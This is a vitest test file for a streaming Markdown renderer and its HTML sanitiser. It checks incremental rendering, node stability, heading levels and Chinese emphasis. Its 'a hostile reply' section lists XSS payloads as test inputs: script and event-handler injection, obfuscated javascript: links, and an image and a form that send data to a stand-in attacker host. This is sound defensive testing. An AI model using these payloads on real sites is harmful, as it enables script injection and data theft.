// @vitest-environment jsdom
import { describe, expect, test, vi } from "vitest";

import { GrowingMarkdown } from "../src/markdown/growing.ts";
import { firstHeading, lex, toHtml } from "../src/markdown/language.ts";
import { sanitise } from "../src/markdown/sanitise.ts";
import { CASES, FRAGMENTS } from "./markdown.cases.ts";

// The purifier is slow without a browser, and more so on a machine that is busy with other tests.
vi.setConfig({ testTimeout: 60_000 });

/** One full parse of everything, by the same language but by none of the growing. */
function parseAtOnce(text: string): HTMLElement {
  const host = document.createElement("div");
  const blocks = lex(text);
  host.append(sanitise(toHtml(blocks, firstHeading(blocks))));
  return host;
}

function expectSameNodes(actual: HTMLElement, expected: HTMLElement): void {
  // The order of attributes is no difference, but innerHTML shows the others better than `false` does.
  if (!actual.isEqualNode(expected)) expect(actual.innerHTML).toBe(expected.innerHTML);
  expect(actual.isEqualNode(expected)).toBe(true);
}

function grow(text: string, size: number): HTMLElement {
  const host = document.createElement("div");
  const growing = new GrowingMarkdown(host);
  for (let end = size; end < text.length; end += size) growing.show(text.slice(0, end));
  growing.finish(text);
  return host;
}

/** Numbers below `limit` that are the same for each `seed` (mulberry32). */
function createChance(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % limit;
  };
}

describe("a text fed in pieces ends in the nodes of one full parse", () => {
  test.each(Object.entries(CASES))("%s", (_, text) => {
    const whole = parseAtOnce(text);
    // By single characters where that is quick.
    for (const size of text.length < 90 ? [1, 3, 17] : [3, 17]) expectSameNodes(grow(text, size), whole);
  });

  test("300 texts of chance, in pieces of chance", () => {
    for (let seed = 1; seed <= 300; seed += 1) {
      const chance = createChance(seed);
      const text = Array.from({ length: 2 + chance(4) }, () => FRAGMENTS[chance(FRAGMENTS.length)]).join("");
      const host = document.createElement("div");
      const growing = new GrowingMarkdown(host);
      for (let end = chance(20); end < text.length; end += 1 + chance(200)) growing.show(text.slice(0, end));
      growing.finish(text);
      const whole = parseAtOnce(text);
      if (!host.isEqualNode(whole)) expect({ seed, text, html: host.innerHTML }).toEqual({ seed, text, html: whole.innerHTML });
    }
  });

  test("everything in one reply", () => {
    const everything = Object.values(CASES).join("\n\n");
    expectSameNodes(grow(everything, 41), parseAtOnce(everything));
  });
});

describe("while a text grows", () => {
  test("settled blocks are never touched again", () => {
    const host = document.createElement("div");
    const growing = new GrowingMarkdown(host);
    growing.show("first\n\nsecond\n\nth");
    const settled = [host.children[0], host.children[1]];
    growing.show("first\n\nsecond\n\nthird\n\n- a\n- b\n");
    growing.finish("first\n\nsecond\n\nthird\n\n- a\n- b\n\nend");
    expect([host.children[0], host.children[1]]).toEqual(settled);
    expect(host.children[0]).toBe(settled[0]);
    expect(host.children[1]).toBe(settled[1]);
  });

  test("the open block keeps its nodes, so that a selection in it survives", () => {
    const host = document.createElement("div");
    const growing = new GrowingMarkdown(host);
    growing.show("some **bold** wor");
    const words = host.querySelector("p")?.lastChild;
    growing.show("some **bold** words and more");
    expect(host.querySelector("p")?.lastChild).toBe(words);
    expect(words?.textContent).toBe(" words and more");
  });

  test("an open code fence grows in one text node and holds back what may close it", () => {
    const host = document.createElement("div");
    const growing = new GrowingMarkdown(host);
    growing.show("```py\nprint(1)\n");
    const code = host.querySelector("code")?.firstChild;
    growing.show("```py\nprint(1)\nprint(2)\n``");
    expect(host.querySelector("code")?.firstChild).toBe(code);
    expect(code?.textContent).toBe("print(1)\nprint(2)\n");
    growing.show("```py\nprint(1)\nprint(2)\n```\nafter");
    expect(host.querySelector("code")?.textContent).toBe("print(1)\nprint(2)\n");
    expect(host.lastElementChild?.textContent).toBe("after");
  });

  test("a text that does not go on replaces what was shown", () => {
    const host = document.createElement("div");
    const growing = new GrowingMarkdown(host);
    growing.show("one\n\ntwo\n\nthree");
    growing.show("other\n\ntext");
    growing.finish("other\n\ntext");
    expectSameNodes(host, parseAtOnce("other\n\ntext"));
  });

  test("finishing what is shown already changes no node", () => {
    const host = document.createElement("div");
    const growing = new GrowingMarkdown(host);
    const text = "a\n\n```js\nlet x;\n```\n\n| a |\n|---|\n| 1 |\n";
    growing.show(text);
    const nodes = [...host.querySelectorAll("*")];
    growing.finish(text);
    expect([...host.querySelectorAll("*")].every((node, i) => node === nodes[i])).toBe(true);
  });
});

test("the first heading is the topmost, whatever its depth, and none stands above it", () => {
  const levels = (text: string) => [...grow(text, 3).querySelectorAll("h1, h2, h3, h4, h5, h6")].map(({ localName }) => localName);
  expect(levels("## a\n\n### b\n\n# c\n\n###### d\n")).toEqual(["h3", "h4", "h3", "h6"]);
  expect(levels("- one\n- two\n- ### in an item\n- four\n- five\n\n#### below\n")).toEqual(["h3", "h4"]);
  expect(levels("text\n\nUnder\n---\n\n### b\n")).toEqual(["h3", "h4"]);
});

test("what a block needs is kept by the purifier", () => {
  const html = grow("3. three\n\n| a |\n|--:|\n| 1 |\n\n```py\nx\n```\n\n# T", 1).innerHTML;
  for (const part of ['<ol start="3">', '<th align="right">', '<code class="language-py">', '<pre tabindex="0">', "<h3>"])
    expect(html).toContain(part);
});

describe("Chinese", () => {
  test.each([
    ["**粗体：**文字", "<strong>粗体：</strong>文字"],
    ["这是**“引号”**里的", "这是<strong>“引号”</strong>里的"],
    ["**注意！**请看**（一）**和**二。**三", "<strong>注意！</strong>请看<strong>（一）</strong>和<strong>二。</strong>三"],
    ["**`code`：**说明", "<strong><code>code</code>：</strong>说明"],
    ["**普通**文字", "<strong>普通</strong>文字"],
    ["2**(n+1)**2", "2**(n+1)**2"],
  ])("%s", (text, html) => {
    expect(grow(text, 1).innerHTML.trim()).toBe(`<p>${html}</p>`);
  });
});

describe("a hostile reply", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a <b onclick=alert(1)>b</b> <iframe src=https://evil.example></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1)) [x](&#106;avascript:alert(1)) [x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](https://a.example \"x\\\" onmouseover=alert(1) y=\\\"\")",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "<style>*{display:none}</style><form action=https://evil.example><input name=q></form>",
    "<svg><script>alert(1)</script></svg><math><mi xlink:href=javascript:alert(1)>",
    "[//evil.example](//evil.example) [up](../logout) [#](#/c/other)",
  ])("%s", (text) => {
    const host = grow(text, 1);
    for (const element of host.querySelectorAll("*")) {
      expect("a blockquote br code del div em p pre strong span".split(" ")).toContain(element.localName);
      for (const { name, value } of element.attributes) {
        expect("class href rel tabindex target title".split(" ")).toContain(name);
        if (name === "href") expect(value).toMatch(/^https:\/\/(?:evil|a)\.example/);
      }
    }
  });

  test("its images are links, and its links tell nobody where they came from", () => {
    const link = grow("![a cat](https://cats.example/1.png)", 3).querySelector("a");
    expect(link?.textContent).toBe("a cat");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  test("its raw HTML is shown as it was written", () => {
    expect(grow("use <b>bold</b> and\n\n<div>\nblock\n</div>", 2).textContent).toContain("<b>bold</b>");
  });
});
